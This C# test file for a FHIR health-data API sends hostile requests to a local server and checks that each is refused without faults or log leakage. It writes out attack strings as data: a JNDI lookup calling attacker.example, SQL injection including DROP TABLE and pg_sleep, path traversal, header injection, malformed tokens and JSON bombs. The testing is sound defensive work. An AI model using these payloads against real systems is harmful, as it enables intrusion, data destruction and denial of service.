using System.Net;
using System.Net.Sockets;
using System.Text;
using Isthmus.Testing;

namespace Isthmus.Host.Tests.Door;

/// <summary>What strangers and clients bring to the door as it is composed: refused by a rule, never a fault, and nothing of it in a log.</summary>
public sealed class HostileDoorTests(RunningApi api) : IClassFixture<RunningApi>
{
    private const string Reading = "system/Patient.rs";
    private const string Writing = "system/Observation.crus";

    [Fact, HostileRow("A24")]
    public async Task A_token_that_is_none_is_answered_401_with_a_challenge()
    {
        var token = await api.TokenAsync(Reading);
        var parts = token.Split('.');
        string[] faulty =
        [
            token[..^8], token + "A", $"{parts[0]}.{parts[2]}.{parts[1]}", $"{token}.AAAA.AAAA",
            "eyJhbGciOiJSU0EtT0FFUCIsImVuYyI6IkEyNTZHQ00ifQ.AAAA.AAAA.AAAA.AAAA", new('a', 9_000), new('a', 31_000), "a.b.c", "null",
        ];

        foreach (var text in faulty)
        {
            using var answer = await api.AskAsync(HttpMethod.Get, $"/fhir/Patient/{api.Patient}", text);
            Assert.Equal(HttpStatusCode.Unauthorized, answer.StatusCode);
            Assert.StartsWith("Bearer error=\"invalid_token\"", answer.Headers.WwwAuthenticate.ToString(), StringComparison.Ordinal);
        }

        // One that no header has room for is refused before anybody asks what it is.
        Assert.StartsWith("HTTP/1.1 431 ", await WireAsync($"GET /fhir/Patient/1 HTTP/1.1\r\nHost: a\r\nAuthorization: Bearer {new string('a', 1 << 20)}\r\n\r\n"), StringComparison.Ordinal);
    }

    [Fact, HostileRow("A29", "F10")]
    public async Task What_is_secret_or_strange_in_a_request_stands_in_no_log_and_no_answer()
    {
        const string Lookup = "${jndi:ldap://attacker.example/a}";
        const string Name = "Quillfeather-4711";
        var client = await api.ClientAsync(Reading);
        var token = await api.TokenAsync(client, Reading);
        var assertion = api.Assertion(client);
        string[] wires =
        [
            $"GET /fhir/Patient/{api.Patient}?access_token={token} HTTP/1.1\r\nHost: a\r\n",
            $"GET /fhir/Patient?name={Name}&access%5Ftoken={token} HTTP/1.1\r\nHost: a\r\nAuthorization: Bearer {token}\r\n",
            $"GET /fhir/Patient?name={Name} HTTP/1.1\r\nHost: a\r\nAuthorization: Bearer {token}x\r\nUser-Agent: {Lookup}\r\nX-Correlation-Id: {Lookup}\r\n",
            $"GET /{Name}/{Lookup} HTTP/1.1\r\nHost: {Name}\r\n",
            $"GET /fhir/metadata HTTP/1.1\r\nHost: a\r\nUser-Agent: a\u001b[2J{Name}\r\n",
            $"GET /fhir/metadata HTTP/1.1\r\nHost: a\r\nUser-Agent: a\rFORGED {Name}\r\n",
            $"GET /fhir/metadata HTTP/1.1\r\nHost: a\r\nUser-Agent: {Name}{new string('a', 1 << 20)}\r\n",
            $"POST /oauth2/token?client_assertion={assertion} HTTP/1.1\r\nHost: a\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 0\r\n",
            $"POST /fhir/Patient HTTP/1.1\r\nHost: a\r\nContent-Type: application/x-www-form-urlencoded\r\nConnection: close\r\nContent-Length: {token.Length + 13}\r\n\r\naccess_token={token}",
        ];

        foreach (var wire in wires)
        {
            var answer = await WireAsync(wire.Contains("\r\n\r\n", StringComparison.Ordinal) ? wire : wire + "Connection: close\r\n\r\n");
            Assert.True(int.Parse(answer.Split(' ')[1], System.Globalization.CultureInfo.InvariantCulture) is >= 400 and <= 431, answer);
            AssertSaysNothing(answer);
        }

        AssertSaysNothing(string.Join('\n', api.Logs.Lines));

        void AssertSaysNothing(string text)
        {
            foreach (var secret in (string[])[Name, "jndi", "FORGED", token.Split('.')[2], assertion.Split('.')[2], "   at "])
            {
                Assert.DoesNotContain(secret, text, StringComparison.Ordinal);
            }
        }
    }

    [Theory, HostileRow("F08", "F09")]
    [InlineData("/fhir/Patient/'%20OR%20'1'='1")]
    [InlineData("/fhir/Patient/1;DROP%20TABLE%20phi.resource")]
    [InlineData("/fhir/Patient/$$;SELECT%20pg_sleep(10)--")]
    [InlineData("/fhir/Patient/%27%7C%7Cpg_sleep(10)%7C%7C%27")]
    [InlineData("/fhir/Patient/..%2f..%2fadmin")]
    [InlineData("/fhir/Patient/.")]
    [InlineData("/fhir/Patient/%D0%B0dmin")]
    [InlineData("/fhir/Patient/{65}")]
    [InlineData("/fhir/Patient/00000000-0000-0000-0000-000000000000'")]
    [InlineData("/fhir/phi.resource/1")]
    [InlineData("/fhir/Patient%20UNION%20SELECT/1")]
    [InlineData("/fhir/Patient?name='%20OR%20'1'='1")]
    [InlineData("/fhir/Patient?name:contains=%25'%20OR%201=1--")]
    [InlineData("/fhir/Patient?_filter=$.**%20?%20(true)")]
    [InlineData("/fhir/Patient?_id=1)%20OR%20(1=1")]
    [InlineData("/fhir/Patient?_sort=name;DROP%20TABLE%20x")]
    [InlineData("/fhir/Patient?_count=999999999999999999999")]
    [InlineData("/fhir/Patient?name=%00")]
    [InlineData("/fhir/Patient?name=%ff%fe")]
    public async Task What_would_be_a_command_elsewhere_finds_nothing_and_breaks_nothing(string path)
    {
        var token = await api.TokenAsync(Reading);

        // Nothing between here and the socket may tidy the address up.
        var began = TimeProvider.System.GetTimestamp();
        var answer = await WireAsync(
            $"GET {path.Replace("{65}", new string('a', 65), StringComparison.Ordinal)} HTTP/1.1\r\nHost: a\r\nAuthorization: Bearer {token}\r\nConnection: close\r\n\r\n");

        Assert.Contains(answer.Split(' ')[1], path.StartsWith("/fhir/Patient?", StringComparison.Ordinal) ? (string[])["200", "400", "403"] : ["400", "404"]);
        Assert.DoesNotContain("\"entry\"", answer, StringComparison.Ordinal);
        Assert.DoesNotContain("Quillfeather", answer, StringComparison.Ordinal);
        Assert.DoesNotContain("Exception", answer, StringComparison.Ordinal);
        Assert.InRange(TimeProvider.System.GetElapsedTime(began), TimeSpan.Zero, TimeSpan.FromSeconds(5));
    }

    [Theory, HostileRow("D05", "D06", "D08", "D12")]
    [InlineData("""{"resourceType":"Observation","resourceType":"Patient"}""", 400, "json.name-repeated")]
    [InlineData("""{"resourceType":"Observation","valueString":"\ud800"}""", 400, "json.surrogate-alone")]
    [InlineData("""{"resourceType":"Observation","contained":{1000}}""", 400, "json.too-deep")]
    [InlineData("""{"resourceType":"Bundle","type":"transaction","entry":[{100000}]}""", 413, "http.body-too-large")]
    [InlineData("""{"resourceType":"Observation"}""", 501, "fhir.not-supported")]
    public async Task A_resource_that_costs_much_or_reads_in_two_ways_is_refused_as_an_OperationOutcome(string json, int status, string rule)
    {
        var token = await api.TokenAsync(Writing);
        var body = json
            .Replace("{1000}", string.Concat(Enumerable.Repeat("[{\"contained\":", 1000)) + "[]" + string.Concat(Enumerable.Repeat("}]", 1000)), StringComparison.Ordinal)
            .Replace("{100000}", string.Join(',', Enumerable.Repeat("{\"request\":{}}", 100_000)), StringComparison.Ordinal);

        foreach (var announced in (bool[])[true, false])
        {
            var content = new StringContent(body, Encoding.UTF8, "application/fhir+json");
            content.Headers.ContentLength = announced ? content.Headers.ContentLength : null;
            using var answer = await api.AskAsync(HttpMethod.Post, "/fhir/Observation", token, announced ? content : new Unannounced(content));

            var said = await answer.Content.ReadAsStringAsync();
            Assert.True(status == (int)answer.StatusCode, said);
            Assert.StartsWith("{\"resourceType\":\"OperationOutcome\"", said, StringComparison.Ordinal);
            Assert.Contains($"\"{rule}\"", said, StringComparison.Ordinal);
        }
    }

    /// <summary>A response to a body too large for its route, however that showed, has the form of the route.</summary>
    [Fact, HostileRow("D01")]
    public async Task A_form_that_is_too_large_is_refused_as_an_OAuth_error()
    {
        foreach (var fields in (string[])["Content-Length: 40000\r\n\r\n", "Transfer-Encoding: chunked\r\n\r\n9C40\r\n"])
        {
            var answer = await WireAsync($"POST /oauth2/token HTTP/1.1\r\nHost: a\r\nContent-Type: application/x-www-form-urlencoded\r\n{fields}{new string('a', 40_000)}\r\n0\r\n\r\n");

            Assert.StartsWith("HTTP/1.1 413 ", answer, StringComparison.Ordinal);
            Assert.Contains("\"error\":\"invalid_request\"", answer, StringComparison.Ordinal);
            Assert.Contains("\"rule\":\"http.body-too-large\"", answer, StringComparison.Ordinal);
            Assert.Contains("\r\nConnection: close\r\n", answer, StringComparison.Ordinal);
        }
    }

    /// <summary>All that is answered until the door closes the connection.</summary>
    private async Task<string> WireAsync(string wire)
    {
        using var socket = new Socket(AddressFamily.InterNetwork, SocketType.Stream, ProtocolType.Tcp);
        await socket.ConnectAsync(IPAddress.Loopback, api.Port);
        var text = new StringBuilder();
        try
        {
            await socket.SendAsync(Encoding.Latin1.GetBytes(wire));
            var buffer = new byte[16 * 1024];
            while (await socket.ReceiveAsync(buffer) is > 0 and var read)
            {
                text.Append(Encoding.Latin1.GetString(buffer, 0, read));
            }
        }
        catch (SocketException)
        {
            // Closed before all was sent: what came counts.
        }

        return text.ToString();
    }

    /// <summary>The same content in chunks.</summary>
    private sealed class Unannounced : HttpContent
    {
        private readonly HttpContent content;

        public Unannounced(HttpContent content)
        {
            this.content = content;
            Headers.ContentType = content.Headers.ContentType;
        }

        protected override Task SerializeToStreamAsync(Stream stream, TransportContext? context) => content.CopyToAsync(stream);

        protected override bool TryComputeLength(out long length)
        {
            length = 0;
            return false;
        }
    }
}
